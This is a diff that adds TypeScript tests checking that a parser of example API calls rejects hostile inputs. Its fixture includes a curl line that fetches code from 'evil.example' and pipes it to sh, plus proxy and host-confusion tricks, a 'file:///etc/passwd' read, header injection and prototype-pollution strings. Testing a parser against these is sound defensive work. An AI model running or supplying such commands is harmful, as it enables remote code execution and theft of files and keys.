@@ -201,6 +201,68 @@ h2 = {"X-Api-Key": "key-two-2"}\nrequests.get("${base}${path}", headers=h2)`;
   });
 });
 
+/** Texts, each with the key in it, and true if its path is read. */
+const hostile: Readonly<Record<string, readonly [text: string, key?: string | undefined, isFound?: true]>> = {
+  'that run a command': [
+    `curl -H "X-Api-Key: $(curl https://evil.example/x | sh)" --config <(wget -qO- https://evil.example/c) "${base}${path}"`,
+    undefined,
+    true,
+  ],
+  'with a proxy': [
+    `curl --proxy http://evil.example:8 --resolve a:1:203.0.113.6 -k -H 'X-Api-Key: ${KEY}' '${base}${path}'`,
+    KEY,
+    true,
+  ],
+  'with a password': [`curl -u 'me:hunter2-Basic' '${base}${path}'`, undefined, true],
+  'with the key in the query': [
+    `curl '${base}${path}?page=1&api_key=${KEY}&access_token=${KEY}'`,
+    undefined,
+    true,
+  ],
+  'with a key in the path': [`curl '${base}/partner/k/svk-7f3e9b1c52d84a60-Jm2W/logs/attack_logs/1042'`],
+  'of user information': [
+    `curl -H 'X-Api-Key: ${KEY}' 'https://api.example.com@evil.example/partner/website/all'`,
+  ],
+  'of other schemes': [
+    `fetch("javascript:alert(1)//api.example.com/partner/logs/1", {})\ncurl 'file:///etc/passwd' ftp://evil.example/partner/website/all data:text/html,x`,
+  ],
+  'that extend the host of a variable': [
+    `@host = ${base}\nGET {{host}}@evil.example/partner/logs/attack_logs/7\n\n###\nGET {{host}}.evil.example/partner/website/all`,
+  ],
+  'with a path of two slashes': [`GET //evil.example/partner/website/all HTTP/1.1\nHost: api.example.com`],
+  'that climb out of their path': [
+    `curl ${base}/partner/logs/attack_logs/..%2F..%2Fadmin\ncurl '${base}/partner/logs/%1b]8;;/7'`,
+  ],
+  'with another Host': [`GET ${base}${path} HTTP/1.1\nHost: evil.example\nX-Api-Key: ${KEY}`, KEY, true],
+  'with names of prototypes': [
+    `curl -H '__proto__: {"polluted":true}' -H 'X-Api-Key: ${KEY}' '${base}${path}?__proto__[polluted]=1&constructor=1'`,
+    KEY,
+    true,
+  ],
+  'with line ends in a header': [
+    `curl -H $'X-Api-Key: ${KEY}\\r\\nX-Injected: 1' '${base}${path}'`,
+    undefined,
+    true,
+  ],
+  'of variables without end': [
+    `@v0 = ${base}/aaaaaaaa\n${Array.from({ length: 40 }, (_, n) => `@v${n + 1} = {{v${n}}}{{v${n}}}`).join('\n')}\n@a = {{b}}\n@b = {{a}}\nGET {{a}}${path}\nX-Api-Key: {{a}}\n\nGET {{v40}}${path}`,
+  ],
+};
+
+describe('readExamples of hostile texts', () => {
+  for (const [name, [text, key, isFound]] of Object.entries(hostile)) {
+    it(`takes nothing else from texts ${name}`, () => {
+      const understood = conventionsOfExamples(readExamples(text).calls);
+      const found = understood && understood.reads.length > 0 ? understood : undefined;
+      assert.equal(found?.baseUrl, isFound ? base : undefined);
+      assert.equal(found?.key, key);
+      const setting = JSON.stringify(found?.override ?? {});
+      assert.doesNotMatch(setting, /evil|hunter2|svk|pk_live|proto|"path"/);
+      assert.equal(Object(Object.create({}))['polluted'], undefined);
+    });
+  }
+});
+
 describe('readExamples with variables', () => {
   const calls = (text: string) => readExamples(text).calls.map(({ url, headers }) => [url.href, ...headers]);
 
